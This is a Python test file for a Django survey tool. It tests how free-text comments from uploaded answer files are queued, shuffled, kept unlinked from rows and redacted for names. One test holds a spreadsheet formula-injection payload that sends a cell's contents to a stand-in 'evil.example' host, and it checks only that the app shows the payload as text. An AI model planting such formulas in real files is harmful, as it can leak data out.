"""Comments in a file of answers: into the queue with the release, shuffled, tied to no row, and nowhere before."""

from __future__ import annotations

import csv
import html
import io
import json
import logging
import re
import time
import uuid
from collections.abc import Callable, Sequence
from typing import Any

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import Client
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from collegium.accounts.models import User
from collegium.accounts.roles import Role
from collegium.assessments.actions import discard_upload, release_upload, upload_responses
from collegium.assessments.actions.uploads import mapping_of, scrub_uploads, table_of
from collegium.assessments.comments import actions
from collegium.assessments.comments.columns import beside, fitting
from collegium.assessments.comments.marking import marked_words, telling_words, words_in
from collegium.assessments.comments.models import Comment, CommentIntake
from collegium.assessments.comments.queries import next_for, queue_of, released_by_question
from collegium.assessments.comments.silence import says_nothing
from collegium.assessments.models import ResponseUpload, Wave
from collegium.audit.models import AuditEvent
from collegium.jobs.models import Job
from collegium.organisation.models import Grant
from collegium.tables.mapping import Field, Mapping
from collegium.tables.mapping_files import from_toml, to_toml
from collegium.tables.reading import Table
from tests.assessments.hospital import FIRST, answers_csv
from tests.assessments.hospital_fixtures import AT
from tests.assessments.test_instrument_pages import filled
from tests.world import World

ClientOf = Callable[[User], Client]
Bound = Callable[[int], Any]
HELP, ELSE = "What would help you most?", "Is there anything else?"


def with_columns(columns: dict[str, Callable[[int], str]]) -> bytes:
    """The answers of the hospital with more columns, each made from the number of the row."""
    head, *rows = csv.reader(io.StringIO(answers_csv().decode()))
    stream = io.StringIO(newline="")
    writer = csv.writer(stream)
    writer.writerow([*head, *columns])
    writer.writerows([*row, *(make(number) for make in columns.values())] for number, row in enumerate(rows))
    return stream.getvalue().encode()


def remark(number: int) -> str:
    return f"Remark {number} about the rota, which nobody asks us about."


@pytest.fixture
def analyst(world: World, wave: Wave) -> User:
    user = world.users.analyst
    Grant.objects.create(user=user, role=Role.ANALYST.value, organisation=wave.organisation, starts=FIRST)
    return user


def mapped(client: Client, wave: Wave, content: bytes, ticked: Sequence[str]) -> None:
    """Bring the file in and say which columns are comments, as on the page."""
    answers, columns = (reverse(f"assessments:{name}", args=["ZHO", wave.pk]) for name in ("responses", "mapping"))
    assert client.post(answers, {"step": "upload", "file": SimpleUploadedFile("a.csv", content)}).status_code == 302
    offered = offered_comments(client, wave)
    assert (
        client.post(columns, {**filled(client, columns), **{offered[column]: "on" for column in ticked}}).status_code
        == 302
    )


def offered_comments(client: Client, wave: Wave) -> dict[str, str]:
    """What stands beside each box of a column that may be a comment, and the name of the box."""
    shown = client.get(reverse("assessments:mapping", args=["ZHO", wave.pk])).content.decode()
    found = re.findall(r'<label[^>]*for="id_(comment-\d+)"[^>]*>(.*?)</label>', shown, re.DOTALL)
    return {html.unescape(text).strip(): name for name, text in found}


def released_through_the_page(client: Client, wave: Wave) -> None:
    page = reverse("assessments:responses", args=["ZHO", wave.pk])
    client.get(page)
    assert client.post(page, {"step": "release", "minimum": 10}).status_code == 302
    wave.refresh_from_db()
    assert wave.release


@pytest.mark.django_db
def test_from_file_to_queue_through_the_pages(
    wave: Wave, analyst: User, client_of: ClientOf, django_assert_max_num_queries: Bound
) -> None:
    content = with_columns(
        {
            HELP: lambda number: remark(number) if number < 60 else "" if number < 120 else "n/a",
            ELSE: lambda number: "The car park." if number < 5 else "",
            "Shift": lambda number: "days" if number % 2 else "nights",
        }
    )
    client = client_of(analyst)
    mapped(client, wave, content, [HELP, ELSE])
    assert not Comment.objects.exists()
    page = reverse("assessments:responses", args=["ZHO", wave.pk])
    client.get(page)
    with django_assert_max_num_queries(25):
        shown = client.get(page).content.decode()
    assert f"Comments: {HELP}" in shown
    assert "60 comments; left out: 60 empty, 39 that say nothing" in shown
    assert "5 comments; left out: 154 empty, 0 that say nothing" in shown
    assert "too few to be shown safely" in shown
    assert "Shift" in shown  # left aside, and said so
    with django_assert_max_num_queries(25):
        assert "Of a question with fewer than 20" in client.get(page + "columns/").content.decode()
    assert "rota" not in shown
    released_through_the_page(client, wave)
    job = Job.objects.filter(subject=f"wave:{wave.pk}").get()
    assert "60 comments wait to be looked at." in (job.outcome or {})["message"]
    assert sorted(Comment.objects.values_list("original", flat=True)) == sorted(map(remark, range(60)))
    assert set(Comment.objects.values_list("question", flat=True)) == {HELP}
    with django_assert_max_num_queries(25):
        shown = client.get(reverse("assessments:comments", args=["ZHO", wave.pk])).content.decode()
    assert "What was asked, and what was kept" in shown
    assert "rota" not in shown
    looked = client.get(reverse("assessments:next_comment", args=["ZHO", wave.pk])).content.decode()
    assert f"Asked: {HELP}" in looked
    event = AuditEvent.objects.get(verb="assessments.take_comments", organisation="ZHO")
    assert event.after == {"given": 65, "kept": 60}


@pytest.mark.django_db
def test_the_columns_are_remembered_with_the_words_of_the_next_file(
    wave: Wave, analyst: User, client_of: ClientOf
) -> None:
    mapped(client_of(analyst), wave, with_columns({HELP: remark, ELSE: remark}), [HELP])
    again = upload_responses(by="tests", wave=wave, file_name="b.csv", content=with_columns({HELP: remark}))
    assert ">comment" not in again.mapping
    table = table_of(again)
    kept = from_toml(again.mapping, [Field(name, name) for name in table.columns])
    assert kept.comments == {HELP: HELP}
    without = upload_responses(by="tests", wave=wave, file_name="c.csv", content=with_columns({ELSE: remark}))
    assert "[comments]" not in without.mapping
    assert fitting(kept, wave, table, {HELP: "In your own words"}).comments == {HELP: "In your own words"}


@pytest.mark.django_db
def test_a_column_is_not_two_things(wave: Wave, analyst: User, client_of: ClientOf) -> None:
    client = client_of(analyst)
    mapped(client, wave, with_columns({HELP: remark}), [HELP])
    columns = reverse("assessments:mapping", args=["ZHO", wave.pk])
    answer = client.post(columns, {**filled(client, columns), "w01": HELP})
    assert answer.status_code == 200
    assert "Choose one of the two" in answer.content.decode()


@pytest.mark.django_db
def test_nothing_ties_a_comment_to_a_row(wave: Wave, analyst: User, client_of: ClientOf) -> None:
    """By order, by id, by time, by what is beside it; as somebody sees it who has the whole database and the file."""
    client = client_of(analyst)
    mapped(client, wave, with_columns({HELP: remark, ELSE: lambda number: f"{remark(number)} Again."}), [HELP, ELSE])
    released_through_the_page(client, wave)
    rows = 159
    place = "ctid" if connection.vendor == "postgresql" else "rowid"
    with connection.cursor() as cursor:
        cursor.execute(f"SELECT id, original, question FROM assessments_comment ORDER BY {place}")
        stored = cursor.fetchall()
    assert len(stored) == 2 * rows
    for order in (stored, sorted(stored)):
        for question, tail in ((HELP, ""), (ELSE, " Again.")):
            texts = [text for _, text, asked in order if asked == question]
            hits = sum(text == remark(number) + tail for number, text in enumerate(texts))
            assert hits < 12  # one is expected by chance; 12 happens to nobody
        both = [text.removesuffix(" Again.") for _, text, _ in order]
        assert sum(one == other for one, other in zip(both, both[1:], strict=False)) < 12
        kinds = [asked for _, _, asked in order]
        assert 20 < sum(one != other for one, other in zip(kinds, kinds[1:], strict=False)) < 2 * rows - 20
    assert {uuid.UUID(str(key)).version for key, _, _ in stored} == {4}
    kinds_of_field = {field.get_internal_type() for field in Comment._meta.get_fields()}
    assert not {"DateTimeField", "DateField", "BigAutoField"} & kinds_of_field
    assert {field.name for field in CommentIntake._meta.get_fields()} == {"id", "wave", "given", "counts", "closed_on"}
    assert not ResponseUpload.objects.exists()


@pytest.mark.django_db
def test_a_text_is_nowhere_but_in_the_upload_before_the_release(
    wave: Wave, analyst: User, client_of: ClientOf, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    client = client_of(analyst)
    mapped(client, wave, with_columns({HELP: lambda number: f"Xyzzyword {number} is said."}), [HELP])
    client.get(reverse("assessments:responses", args=["ZHO", wave.pk]))
    upload = ResponseUpload.objects.get()
    assert "Xyzzyword" in json.loads(bytes(upload.content))["rows"][0][-1]
    assert "Xyzzyword" not in f"{upload.mapping}{upload.looked}{upload.removed_columns}"
    released_through_the_page(client, wave)
    told = "".join(f"{one.before}{one.after}{one.reason}" for one in AuditEvent.objects.all())
    told += "".join(f"{vars(one)}" for one in Job.objects.all())
    told += f"{vars(wave.release)}"
    assert "Xyzzyword" not in told + caplog.text
    assert Comment.objects.filter(original__contains="Xyzzyword").count() == 159


@pytest.mark.django_db
def test_a_comment_that_names_somebody_who_answered_is_marked_and_blanked_out(
    wave: Wave, analyst: User, client_of: ClientOf, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    names = ["Zelda Quillfeather", "Oswin Tarrant-Pugh", "Ibrahim O'Keel"]

    def text(number: int) -> str:
        return [
            "I, Zelda, am not heard; write to z.quillfeather@trust.example.",
            "Ask TARRANT-PUGH what he thinks.",
            "O’Keel’s rota is fair. The trust will not say so.",
        ][number % 3]

    content = with_columns(
        {
            "Name": lambda number: names[number % 3],
            "Email": lambda number: ["z.quillfeather@trust.example", "anonymous", ""][number % 3],
            "Staff ID": lambda number: f"{900000 + number}",
            HELP: text,
        }
    )
    client = client_of(analyst)
    mapped(client, wave, content, [HELP])
    upload = ResponseUpload.objects.get()
    kept = bytes(upload.content).decode()
    assert upload.removed_columns == ["Name", "Email", "Staff ID"]
    assert "Tarrant-Pugh" not in kept  # as he spells himself; the text that names him is what was written
    assert "900001" not in kept
    assert beside(upload).marked[HELP]["0"] == ["Zelda", "z.quillfeather@trust.example"]
    released_through_the_page(client, wave)
    assert Comment.objects.filter(marked=[]).count() == 0
    queue = reverse("assessments:next_comment", args=["ZHO", wave.pk])
    shown = client.get(queue).content.decode()
    assert "words of this text stood in a column that told who answered" in shown
    Comment.objects.exclude(original__startswith="Ask").delete()
    shown = client.get(queue).content.decode()
    assert "Blank out “TARRANT-PUGH”, write [name]" in shown
    comment = next_for(wave, analyst)
    assert comment is not None
    assert (
        client.post(queue, {"comment": str(comment.pk), "do": "blank", "span-0": "on", "words": ""}).status_code == 302
    )
    comment.refresh_from_db()
    assert comment.text == "Ask [name] what he thinks."
    other = User.objects.exclude(pk=analyst.pk).first()
    assert other is not None
    actions.release(by=other, comment=comment)
    comment.refresh_from_db()
    assert (comment.original, comment.marked) == ("", [])
    assert released_by_question(wave) == [(HELP, ["Ask [name] what he thinks."])]
    told = "".join(f"{one.before}{one.after}{one.reason}" for one in AuditEvent.objects.all()) + caplog.text
    for name in ("Quillfeather", "TARRANT", "Keel"):
        assert name not in told


@pytest.mark.django_db
def test_a_formula_in_a_comment_is_text(wave: Wave, analyst: User, client_of: ClientOf) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"<b>look</b>")'
    client = client_of(analyst)
    mapped(client, wave, with_columns({HELP: lambda _: formula}), [HELP])
    released_through_the_page(client, wave)
    shown = client.get(reverse("assessments:next_comment", args=["ZHO", wave.pk])).content.decode()
    assert "=HYPERLINK" in shown
    assert "<b>look</b>" not in shown
    assert set(Comment.objects.values_list("original", flat=True)) == {formula}


@pytest.mark.django_db
def test_comments_are_taken_in_once(wave: Wave, analyst: User, client_of: ClientOf) -> None:
    client = client_of(analyst)
    mapped(client, wave, with_columns({HELP: remark}), [HELP])
    actions.take(wave, [remark(number) for number in range(30)], "tests")
    with pytest.raises(ValidationError, match="taken in before, as a file of their own"):
        release_upload(by="tests", wave=wave, at=AT)
    shown = client.get(reverse("assessments:mapping", args=["ZHO", wave.pk]))
    assert "no column of this file can be one" in shown.content.decode()
    assert offered_comments(client, wave) == {}
    upload_responses(by="tests", wave=wave, file_name="b.csv", content=with_columns({HELP: remark}))
    release_upload(by="tests", wave=wave, at=AT)
    assert Comment.objects.count() == 30


@pytest.mark.django_db
def test_a_release_that_fails_takes_nothing_in(
    wave: Wave, analyst: User, client_of: ClientOf, monkeypatch: pytest.MonkeyPatch
) -> None:
    mapped(client_of(analyst), wave, with_columns({HELP: remark}), [HELP])

    def fail(*_: object) -> None:
        raise RuntimeError("the power is gone")

    monkeypatch.setattr("collegium.assessments.actions.releases.take_questions", fail)
    with pytest.raises(RuntimeError):
        release_upload(by="tests", wave=wave, at=AT)
    assert not Comment.objects.exists()
    assert not hasattr(Wave.objects.get(pk=wave.pk), "release")
    assert ResponseUpload.objects.exists()


@pytest.mark.django_db
def test_each_question_has_its_own_threshold(wave: Wave) -> None:
    given_ = [
        actions.Written("One", [remark(n) for n in range(25)]),
        actions.Written("Two", [remark(n) for n in range(19)]),
    ]
    assert actions.take_questions(wave, given_, "tests") == 25
    queue = queue_of(wave)
    assert queue is not None
    assert (queue.given, queue.too_few) == (44, False)
    assert [one["kept"] for one in queue.counts] == [25, 0]


@pytest.mark.django_db
def test_none_kept_is_said(wave: Wave) -> None:
    actions.take_questions(wave, [actions.Written(name, [remark(n) for n in range(15)]) for name in "ab"], "tests")
    queue = queue_of(wave)
    assert queue is not None
    assert queue.too_few


@pytest.mark.parametrize("text", ["n/a", "N.A.", "-", "...", "None", "No comment.", "nothing to add", "?", "  –  "])
def test_what_says_nothing(text: str) -> None:
    assert says_nothing(text)


@pytest.mark.parametrize("text", ["None of us is asked.", "No rota, no rest", "Pay", "More time", "不"])
def test_what_says_something(text: str) -> None:
    assert not says_nothing(text)


TABLE = Table(
    "x.csv", ("Name", "E-mail", "Browser", "text"), [("Mary Ann Li", "m.smith@nhs.net", "Firefox on a train", "")]
)


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("mary said so", ["mary"]),
        ("Ann’s idea", ["Ann’s"]),
        ("Planning annoys Li", []),  # parts of words, and names too short to tell, stay for the reader's eye
        ("smith", ["smith"]),
        ("M.SMITH@NHS.NET", ["M.SMITH@NHS.NET"]),
        ("The NHS net works in Firefox on a train", []),
        ("Mary-Ann, (Smith).", ["Mary-Ann", "Smith"]),
    ],
)
def test_names_of_a_column_taken_out_are_found(text: str, words: list[str]) -> None:
    telling = telling_words(TABLE, ("Name", "E-mail", "Browser"))
    assert words_in(text, telling) == words


@given(st.text(max_size=60), st.text(max_size=30))
def test_a_whole_word_of_a_name_is_always_found(text: str, name: str) -> None:
    table = Table("x.csv", ("Name", "text"), [(f"{name} Quillfeather", f"{text} quillfeather {text}")])
    assert marked_words(table, telling_words(table, ("Name",)))["text"][0]


@given(st.dictionaries(st.text(min_size=1), st.text()))
def test_a_mapping_keeps_its_comments(comments: dict[str, str]) -> None:
    assert from_toml(to_toml(Mapping(comments=comments)), ()).comments == comments


@pytest.mark.django_db
def test_five_thousand_of_three_thousand_characters(wave: Wave) -> None:
    words = ("rota", "heard", "theatre", "never", "clinic", "Zelda", "asked", "O'Keel", "plans", "time")
    texts = [" ".join(words[(number + place) % 10] for place in range(520))[:3000] for number in range(5000)]
    table = Table(
        "x.csv", ("Name", HELP), [(f"Zelda {number} Kingfisher{number}", text) for number, text in enumerate(texts)]
    )
    began = time.process_time()
    marks = marked_words(table, telling_words(table, ("Name",)))[HELP]
    given_ = actions.Written(HELP, texts, [marks[number] for number in range(5000)])
    assert actions.take_questions(wave, [given_], "tests") == 5000
    assert time.process_time() - began < 30
    assert Comment.objects.filter(marked=["Zelda"]).count() == 5000


@pytest.mark.django_db
def test_a_mapping_of_an_upload_is_read_with_its_comments(wave: Wave, analyst: User, client_of: ClientOf) -> None:
    mapped(client_of(analyst), wave, with_columns({HELP: remark}), [HELP])
    upload = ResponseUpload.objects.get()
    fields = [Field(name, name) for name in table_of(upload).columns]
    assert mapping_of(upload, fields).comments == {HELP: HELP}  # type: ignore[arg-type]


@pytest.mark.django_db
def test_nothing_of_a_file_that_is_gone_stays_in_the_database(
    wave: Wave, analyst: User, client_of: ClientOf, django_capture_on_commit_callbacks: Any
) -> None:
    upload_responses(by="tests", wave=wave, file_name="a.csv", content=answers_csv())
    steps: tuple[Callable[[], object], ...] = (
        lambda: upload_responses(by="tests", wave=wave, file_name="b.csv", content=answers_csv()),
        lambda: discard_upload(by="tests", wave=wave),
        lambda: upload_responses(by="tests", wave=wave, file_name="c.csv", content=answers_csv()),
        lambda: release_upload(by="tests", wave=wave, at=AT),
    )
    scrubbed = []
    for step in steps:
        with django_capture_on_commit_callbacks() as callbacks:
            step()
        scrubbed.append(scrub_uploads in callbacks)
    assert scrubbed == [True, True, False, True]
